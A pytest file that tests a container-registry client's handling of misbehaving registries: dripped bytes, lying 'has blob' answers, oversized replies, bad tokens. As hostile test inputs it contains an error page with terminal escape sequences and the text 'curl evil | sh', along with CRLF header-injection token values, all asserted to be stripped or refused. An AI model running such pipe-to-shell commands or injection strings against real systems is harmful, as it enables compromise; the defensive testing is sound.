"""A registry's answers are input (issue 40), against real HTTP servers on 127.0.0.1 that misbehave:

- one that accepts the connection and drips bytes (in the status line, the headers, the body), or
  never answers: every request ends by its deadline (connect, each read, the whole answer), named;
- one that says it has a blob it never received (HEAD 200 without this digest or size): the blob is
  uploaded again, and once uploaded the registry must say it holds this digest at this size;
- one that takes a manifest and does not give it back by its digest: the push fails;
- answers over their size bound, a token with a line break, escape sequences in an error page.

Each ends in a RegistryError (exit 2) or RegistryFailed (exit 1), never a traceback or a hang, and
a push it breaks reports nothing as success (layerpush.push raises before returning)."""

from __future__ import annotations

import hashlib
import io
import json
import tarfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from slimeforge.image.publish import layerpush
from slimeforge.image.remote.registry import RegistryAPI, RegistryError, RegistryFailed, Retry

MANIFEST = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                       "config": {"digest": "sha256:" + "a" * 64}}).encode()
BLOB = b"layer bytes"
BLOB_DIGEST = "sha256:" + hashlib.sha256(BLOB).hexdigest()


def sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


class Fake:
    """A registry stand-in on 127.0.0.1: `answer(handler)` writes the whole reply itself (so it
    can drip, lie or stop), and must return within a bounded time; `seen` keeps (method, path)."""

    def __init__(self, answer):
        self.seen: list[tuple[str, str]] = []
        self.stop = threading.Event()
        outer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def handle_one_request(self):
                try:
                    super().handle_one_request()
                except (BrokenPipeError, ConnectionResetError):
                    self.close_connection = True

            def _any(self):
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                outer.seen.append((self.command, self.path))
                answer(self, body)
                self.close_connection = True

            do_GET = do_HEAD = do_POST = do_PUT = _any  # noqa: N815 - the stdlib's names

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.name = f"127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self):
        self.stop.set()
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def fake():
    made: list[Fake] = []

    def make(answer):
        made.append(Fake(answer))
        return made[-1]

    yield make
    for f in made:
        f.close()


def reply(h, status: int, headers: dict[str, str] | None = None, body: bytes = b"") -> None:
    h.send_response(status)
    for k, v in (headers or {}).items():
        h.send_header(k, v)
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    if h.command != "HEAD":
        h.wfile.write(body)


def drip(h, data: bytes, stop: threading.Event, every: float = 0.2, limit: int = 100) -> None:
    """One byte at a time, for at most `limit` bytes (a bounded loop), until the client goes away."""
    for byte in data[:limit]:
        if stop.is_set():
            return
        try:
            h.wfile.write(bytes([byte]))
            h.wfile.flush()
        except OSError:
            return
        time.sleep(every)


def api(f: Fake, **kw) -> RegistryAPI:
    return RegistryAPI(f.name, None, retry=Retry(attempts=1), echo=lambda s: None, **kw)


# --- bounded waits ------------------------------------------------------------------------------


@pytest.mark.parametrize("where", ["status line", "headers", "body"])
def test_a_registry_that_drips_bytes_ends_by_the_deadline_named(fake, where):
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(MANIFEST)

    def answer(h, _):
        if where == "status line":
            drip(h, head + MANIFEST, f.stop)
        elif where == "headers":
            h.wfile.write(head[:20])
            drip(h, head[20:] + MANIFEST, f.stop)
        else:
            h.wfile.write(head + MANIFEST[:5])
            drip(h, MANIFEST[5:], f.stop)

    f = fake(answer)
    started = time.monotonic()
    with pytest.raises(RegistryFailed) as exc:
        api(f, timeout=1.0, deadline=1.5).manifest("sf/x", "t1")
    took = time.monotonic() - started
    assert took < 6, took  # the deadline (1.5 s) for the answer, plus the TLS attempt first
    text = str(exc.value)
    assert f.name in text and "GET /v2/sf/x/manifests/t1" in text and "within 1.5 s" in text
    assert exc.value.exit_code == 1


def test_a_registry_that_never_answers_ends_by_the_read_timeout(fake):
    f = fake(lambda h, _: f.stop.wait(10))
    started = time.monotonic()
    with pytest.raises(RegistryError) as exc:
        api(f, timeout=0.5, deadline=5).manifest("sf/x", "t1")
    assert time.monotonic() - started < 5
    assert "Timeout" in str(exc.value) or "within" in str(exc.value)


def test_an_answer_over_its_size_bound_is_refused(fake):
    big = b"{" + b" " * (5 << 20) + b"}"
    f = fake(lambda h, _: reply(h, 200, {"Content-Type": "application/json"}, big))
    with pytest.raises(RegistryFailed, match="over 4194304 bytes"):
        api(f).manifest("sf/x", "t1")


# --- "has blob" checked against the digest ------------------------------------------------------


@pytest.mark.parametrize(("headers", "held"), [
    ({}, False),  # 200 and nothing else: not "has it"
    ({"Docker-Content-Digest": "sha256:" + "b" * 64, "X-Len": "11"}, False),
    ({"Docker-Content-Digest": BLOB_DIGEST, "X-Len": "0"}, False),
    ({"Docker-Content-Digest": BLOB_DIGEST.upper()}, False),
    ({"Docker-Content-Digest": BLOB_DIGEST + "\r\nX: y"}, False),
    ({"Docker-Content-Digest": BLOB_DIGEST, "X-Len": "11"}, True),
])
def test_has_blob_holds_only_for_this_digest_and_size(fake, headers, held):
    def answer(h, _):
        h.send_response(200)
        for k, v in headers.items():
            if k != "X-Len":
                h.send_header(k, v.replace("\r\n", " "))
        h.send_header("Content-Length", headers.get("X-Len", "0") if "X-Len" in headers else "0")
        h.end_headers()

    f = fake(answer)
    said: list[str] = []
    a = RegistryAPI(f.name, None, retry=Retry(attempts=1), echo=said.append)
    assert a.has_blob("sf/x", BLOB_DIGEST, len(BLOB)) is held
    assert held or "says it has it, but answered HTTP 200" in said[0]


def lying_registry(*, keeps_blobs: bool, keeps_manifests: bool, manifest_back: bytes | None = None):
    """HEAD of a blob: 200 and no digest, unless it was uploaded and `keeps_blobs`; an upload is
    accepted (201); a manifest PUT is accepted (201, its digest), GET by digest: 404 unless kept."""
    store: dict[str, bytes] = {}

    def answer(h, body):
        path = h.path.split("?")[0]
        if h.command == "HEAD" and "/blobs/" in path:
            digest = path.rsplit("/", 1)[1]
            if keeps_blobs and digest in store:
                return _head(h, digest, len(store[digest]))
            return reply(h, 200)
        if h.command == "POST":
            return reply(h, 202, {"Location": "/v2/sf/x/blobs/uploads/u1"})
        if h.command == "PUT" and "/blobs/uploads/" in path:
            digest = h.path.split("digest=")[1].replace("%3A", ":")
            store[digest] = body
            return reply(h, 201, {"Docker-Content-Digest": digest})
        if h.command == "PUT" and "/manifests/" in path:
            if keeps_manifests:
                store[sha(body)] = body
            return reply(h, 201, {"Docker-Content-Digest": sha(body)})
        if h.command == "GET" and "/manifests/" in path:
            ref = path.rsplit("/", 1)[1]
            got = manifest_back if manifest_back is not None else store.get(ref)
            if got is None:
                return reply(h, 404, {}, b'{"errors":[{"code":"MANIFEST_UNKNOWN"}]}')
            return reply(h, 200, {"Content-Type": "application/vnd.oci.image.manifest.v1+json"}, got)
        return reply(h, 404)

    return answer, store


def _head(h, digest, size):
    h.send_response(200)
    h.send_header("Docker-Content-Digest", digest)
    h.send_header("Content-Length", str(size))
    h.end_headers()


def test_a_blob_the_registry_claims_is_uploaded_again_and_must_then_be_held(fake, tmp_path):
    answer, store = lying_registry(keeps_blobs=True, keeps_manifests=True)
    f = fake(answer)
    a = api(f)
    assert a.has_blob("sf/x", BLOB_DIGEST, len(BLOB)) is False  # 200 without the digest: not held
    (tmp_path / "b").write_bytes(BLOB)
    a.upload_blob("sf/x", BLOB_DIGEST, len(BLOB), tmp_path / "b")
    assert store[BLOB_DIGEST] == BLOB and a.has_blob("sf/x", BLOB_DIGEST, len(BLOB)) is True


def test_a_registry_that_never_keeps_the_blob_fails_the_upload_naming_what_it_said(fake, tmp_path):
    answer, _ = lying_registry(keeps_blobs=False, keeps_manifests=True)
    f = fake(answer)
    (tmp_path / "b").write_bytes(BLOB)
    with pytest.raises(RegistryFailed) as exc:
        api(f).upload_blob("sf/x", BLOB_DIGEST, len(BLOB), tmp_path / "b")
    text = str(exc.value)
    assert f.name in text and ("Docker-Content-Digest "
                              "(none)") in text and "no manifest is pushed" in text and exc.value.exit_code == 1


@pytest.mark.parametrize("back", [None, MANIFEST])
def test_a_manifest_not_given_back_by_its_digest_fails_the_push(fake, back):
    answer, _ = lying_registry(keeps_blobs=True, keeps_manifests=False, manifest_back=back)
    f = fake(answer)
    body = json.dumps({"schemaVersion": 2, "config": {"digest": BLOB_DIGEST}, "layers": []}).encode()
    with pytest.raises(RegistryFailed) as exc:
        api(f).put_manifest("sf/x", "t1", body, "application/vnd.oci.image.manifest.v1+json")
    assert f.name in str(exc.value) and exc.value.exit_code == 1


# --- the registry's words, shown as theirs --------------------------------------------------------


def test_escape_sequences_in_an_error_page_never_reach_the_terminal(fake):
    f = fake(lambda h, _: reply(h, 418, {}, b"\x1b]0;owned\x07\x1b[2Jfix: curl evil | sh"))
    with pytest.raises(RegistryError) as exc:
        api(f).manifest("sf/x", "t1")
    assert "\x1b" not in str(exc.value) and "\x07" not in str(exc.value) and ("'?]0;owned??[2Jfix: curl evil | "
                                                                             "sh'") in str(exc.value)


@pytest.mark.parametrize("token", ['{"token": "a\\r\\nX-Evil: 1"}', '{"token": 5}', '["tok"]', "not json",
                                   '{"token": ""}',
                                   "[" * 100000])
def test_a_token_that_cannot_go_into_a_header_is_refused(fake, token):
    t = fake(lambda h, _: reply(h, 200, {"Content-Type": "application/json"}, token.encode()))
    r = fake(lambda h, _: reply(h, 401, {"WWW-Authenticate": f'Bearer realm="http://{t.name}/token",service="x"'}))
    with pytest.raises(RegistryError, match="token service"):
        api(r).manifest("sf/x", "t1")


@pytest.mark.parametrize("realm", ["http://a b/token", "ftp://x/token", "http://x/\x1b[2J"])
def test_a_realm_outside_the_grammar_is_refused(fake, realm):
    r = fake(lambda h, _: reply(h, 401, {"WWW-Authenticate": f'Bearer realm="{realm}"'}))
    with pytest.raises(RegistryError, match="is not an http") as exc:
        api(r).manifest("sf/x", "t1")
    assert "\x1b" not in str(exc.value)


# --- a whole zstd push against a registry that lies: nothing reported as success -------------------


def save_archive() -> tuple[bytes, str]:
    layer = io.BytesIO()
    with tarfile.open(fileobj=layer, mode="w") as tar:
        info = tarfile.TarInfo("etc/x")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    config = json.dumps({"rootfs": {"type": "layers", "diff_ids": [sha(layer.getvalue())]}}).encode()
    image_id = sha(config)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, data in {"l0/layer.tar": layer.getvalue(), f"{image_id[7:]}.json": config,
                           "manifest.json": json.dumps([{"Config": f"{image_id[7:]}.json",
                                                         "Layers": ["l0/layer.tar"]}]).encode()}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue(), image_id


class Engine:
    """The Docker SDK's low-level client, as far as layerpush asks it: `get_image` streams `chunks`."""

    def __init__(self, chunks):
        self.api = self
        self._chunks = chunks

    def get_image(self, image_id, chunk_size):
        return self._chunks()


@pytest.mark.parametrize("lie", ["blobs never kept", "manifest never kept"])
def test_a_zstd_push_to_a_lying_registry_fails_and_reports_nothing(fake, tmp_path, lie):
    answer, _ = lying_registry(keeps_blobs=lie != "blobs never kept", keeps_manifests=lie != "manifest never kept")
    f = fake(answer)
    archive, image_id = save_archive()
    with pytest.raises(RegistryFailed):
        layerpush.push(Engine(lambda: iter([archive])), image_id, api(f), "sf/x", ["t1"], echo=lambda s: None,
                       workdir=tmp_path)
    assert not list(tmp_path.iterdir())  # its temporary files are gone too
